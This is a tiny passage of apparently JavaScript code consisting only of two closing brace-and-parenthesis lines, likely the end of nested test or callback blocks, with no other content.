  })
})
